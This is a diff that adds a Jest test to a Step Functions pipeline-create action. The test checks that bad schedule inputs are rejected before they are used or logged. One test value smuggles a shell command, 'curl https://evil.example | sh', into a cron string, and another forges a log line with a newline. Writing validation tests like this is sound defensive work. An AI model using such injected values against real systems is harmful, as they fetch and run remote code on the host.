@@ -200,4 +200,25 @@ describe('datalake:sfn:pipeline:create', () => {
     expect(sfn.calls()).toHaveLength(0);
     expect(ctx.output).toHaveBeenCalledWith('status', 'dry-run');
   });
+
+  it.each([
+    ["cron(0 2 * * ? *)' ; curl https://evil.example | sh ; echo '"],
+    ['cron(0 2 * * ? *)\nINFO forged log line'],
+    ['cron(0 2 * * * *)'],
+    ['rate(2 hour)'],
+  ])('refuses the schedule %j before it is used or logged', async schedule => {
+    const action = createSfnPipelineCreateAction(mockedOptions());
+    const ctx = actionContext({
+      ...exampleInputs(examples[0].example)[0],
+      schedule,
+    });
+    const info = jest.spyOn(ctx.logger, 'info');
+    await expect(action.handler(ctx as any)).rejects.toMatchObject({
+      name: 'InputError',
+      message: expect.stringMatching(/^Invalid schedule "/),
+    });
+    expect(sfn.calls()).toHaveLength(0);
+    expect(ctx.output).not.toHaveBeenCalled();
+    expect(info).not.toHaveBeenCalled();
+  });
 });
